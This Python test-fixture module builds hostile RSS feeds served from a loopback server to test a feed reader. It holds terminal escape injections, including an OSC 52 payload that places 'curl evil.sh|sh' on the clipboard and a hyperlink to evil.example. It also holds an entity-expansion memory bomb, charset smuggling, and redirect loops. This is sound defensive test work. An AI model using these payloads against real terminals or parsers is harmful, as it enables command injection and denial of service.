"""Hostile feed documents and the loopback-server setups that serve them (used by hostile_cases.CASES).

A setup takes (server, "/<case name>") and registers the case's routes under that prefix, returning the URL
to subscribe to. Large bodies are built by callables, only when the case is set up.
"""

from __future__ import annotations

from collections.abc import Callable
from datetime import datetime, timedelta
from email.utils import format_datetime
from pathlib import Path

from httpserver import LoopbackServer, Route

FEEDS = Path(__file__).parent / "feeds"


# ----------------------------------------------------------------------------- documents


def rss(items: str, title: str = "Hostile", head: str = '<?xml version="1.0" encoding="utf-8"?>') -> str:
    return f'{head}<rss version="2.0"><channel><title>{title}</title><link>http://example.org/</link>{items}</channel></rss>'


def item(title: str, guid: str, desc: str = "", link: str = "http://example.org/post") -> str:
    return f"<item><title>{title}</title><link>{link}</link><guid>{guid}</guid><description>{desc}</description></item>"


GOOD = rss(item("Good one", "g1") + item("Good two", "g2"), title="Good").encode()

# Raw control bytes inside the XML (not valid XML 1.0: expat rejects, the loose parser reads on).
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"  # writes "curl evil.sh|sh" to the clipboard
OSC8 = "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"
TITLE_SET = "\x1b]0;pwned\x07"
CSI_MOVES = "\x1b[2J\x1b[H\x1b[10A\x1b[5;5H"
RAW_ESCAPES = rss(
    item(f"Raw {OSC52} clip {TITLE_SET} title", "raw-1", f"body {OSC8} {CSI_MOVES} end")
    + item("Raw DCS \x1bPq#0;2;0;0;0\x1b\\ and APC \x1b_x\x1b\\ done", "raw-2"),
    title=f"Raw {TITLE_SET} feed",
).encode()
# C1 controls as real characters (U+009B is CSI on terminals that honour 8-bit controls), UTF-8 encoded.
RAW_C1 = rss(item("C1 \u009b31m red \u009d0;t\u009c \u0090q\u009c", "c1-1", "\u009b2J\u0085next")).encode()
# The same single bytes in a document that declares Latin-1, where they decode to C1 characters directly.
RAW_C1_LATIN1 = rss(
    item("Latin \x9b31m red \x9d52;c;eA==\x07", "c1l-1"), head='<?xml version="1.0" encoding="iso-8859-1"?>'
).encode("latin-1")
# UTF-7: "+ABs-" is ESC. A feed may declare any charset; decoding UTF-7 would manufacture escape sequences.
UTF7 = (
    b'<?xml version="1.0" encoding="utf-7"?><rss version="2.0"><channel><title>Seven</title>'
    b"<item><title>Seven +ABs-]0;pwned+AAc- title</title><guid>u7-1</guid></item></channel></rss>"
)
# Lone surrogate and out-of-range character references (feedparser raises on some: feedparser#591/#599).
BAD_CHARREFS = rss(
    item("Surrogate &#xD800; ref", "cr-1", "&#xDFFF;") + item("Out of range &#x110000; ref", "cr-2")
).encode()
NUL_REFS = rss(item("Nul &#0; ref &#1;&#8;&#x7f; &#127;", "nul-1", "a&#x0;b")).encode()
# Wrong charset: the header and the XML declaration say UTF-8, the bytes are Windows-1252.
WRONG_CHARSET = rss(item("Café “quoted” € price", "wc-1")).encode("cp1252")
# Mixed: valid UTF-8 with stray Windows-1252 bytes, and a UTF-8 encoded C1 in the middle.
MIXED = (
    rss(item("Mixed café", "mx-1", "ok")).encode().replace(b"ok", b"ok \x92 stray \xff\xfe bytes \xc2\x9b31m")
)
UTF16 = rss(
    item("Sixteen &#27;]52;c;eA==&#7; bits \u202e", "u16-1"), head='<?xml version="1.0" encoding="utf-16"?>'
).encode("utf-16")


def many_items(n: int) -> bytes:
    base = datetime(2024, 1, 1)
    parts = []
    for i in range(n):
        date = format_datetime(base + timedelta(minutes=i), usegmt=False)
        parts.append(
            f"<item><title>Item {i}</title><guid>many-{i}</guid><pubDate>{date} GMT</pubDate></item>"
        )
    return rss("".join(parts), title="Twenty thousand").encode()


def huge_title() -> bytes:
    """A 5 MB title, with an escape sequence at the very end (past any cut)."""
    return rss(item("T" * (5 * 10**6) + "\x1b]0;late\x07", "huge-title")).encode()


def entity_quadratic() -> bytes:
    """One 16,000-character entity referenced 5,000 times: a 31 KB document, 80 million characters expanded.

    Nested "billion laughs" entities are dropped by feedparser's own DOCTYPE filter; this flat form is not,
    and expat refuses it (amplification limit), so feedparser's loose parser expands it: ~4 s and ~250 MiB.
    """
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE rss [\n<!ENTITY a "' + "x" * 16000 + '">\n]>\n'
        '<rss version="2.0"><channel><title>Quadratic &a;</title><item><title>' + "&a;" * 5000 + "</title>"
        "<guid>quad-1</guid><description>" + "&a;" * 3000 + "</description></item></channel></rss>"
    ).encode()


def deep_nesting(depth: int) -> bytes:
    return rss(
        item("Deep", "deep-1", "&lt;div&gt;" * depth + "x" + "&lt;/div&gt;" * depth) + "<x>" * depth
    ).encode()


# ----------------------------------------------------------------------------- setups


def static(body: bytes | str | Callable[[], bytes], **route: object) -> Callable[[LoopbackServer, str], str]:
    """Serve `body` (or what the callable makes, built only when the case is set up) at `<prefix>/feed`."""

    def setup(server: LoopbackServer, prefix: str) -> str:
        data = body() if callable(body) else body
        data = data.encode() if isinstance(data, str) else data
        return server.route(prefix + "/feed", Route(body=data, **route))  # type: ignore[arg-type]

    return setup


def from_file(name: str, **route: object) -> Callable[[LoopbackServer, str], str]:
    return static((FEEDS / name).read_bytes(), **route)


def redirects(*statuses: int, final: bytes = GOOD) -> Callable[[LoopbackServer, str], str]:
    """`/feed` -(statuses[0])-> `/h1` -(statuses[1])-> `/h2` ... ; the last hop serves `final`."""

    def setup(server: LoopbackServer, prefix: str) -> str:
        paths = ["/feed", *[f"/h{i + 1}" for i in range(len(statuses))]]
        for status, here, there in zip(statuses, paths, paths[1:], strict=False):
            server.redirect(prefix + here, prefix + there, status)
        server.serve(prefix + paths[-1], final)
        return server.url(prefix + "/feed")

    return setup


def redirect_loop(server: LoopbackServer, prefix: str) -> str:
    server.redirect(prefix + "/feed", prefix + "/b", 302)
    server.redirect(prefix + "/b", prefix + "/c", 301)
    server.redirect(prefix + "/c", prefix + "/feed", 307)
    return server.url(prefix + "/feed")


def redirect_to(location: str, status: int = 301) -> Callable[[LoopbackServer, str], str]:
    def setup(server: LoopbackServer, prefix: str) -> str:
        return server.redirect(prefix + "/feed", location, status)

    return setup


def redirect_with(location_tail: str, request_path: str) -> Callable[[LoopbackServer, str], str]:
    """A 301 to `<prefix>/moved<location_tail>`, where a good feed waits at `<prefix>/moved<request_path>`.

    http.server writes header values as Latin-1: a "\x9b" goes out as the single byte 0x9b; to send UTF-8,
    pass the Latin-1 spelling of its bytes. `request_path` is how httpx percent-encodes the target.
    """

    def setup(server: LoopbackServer, prefix: str) -> str:
        server.redirect(prefix + "/feed", prefix + "/moved" + location_tail, 301)
        server.serve(prefix + "/moved" + request_path, rss(item("Moved here", "mv-1")))
        return server.url(prefix + "/feed")

    return setup


def html_alternate(href: str, serve_at: str | None) -> Callable[[LoopbackServer, str], str]:
    """An HTML page where the feed was, advertising a feed at `href`; a good feed at `serve_at` if given."""

    def setup(server: LoopbackServer, prefix: str) -> str:
        page = (
            "<!doctype html><html><head><title>Home</title>"
            f'<link rel="alternate" type="application/rss+xml" href="{href}"></head><body>hi</body></html>'
        )
        if serve_at is not None:
            server.serve(prefix + serve_at, rss(item("Discovered", "disc-1")))
        return server.serve(prefix + "/feed", page, content_type="text/html; charset=utf-8")

    return setup


def retry_after(status: int, value: str) -> Callable[[LoopbackServer, str], str]:
    return static(b"busy", status=status, headers={"Retry-After": value}, content_type="text/plain")
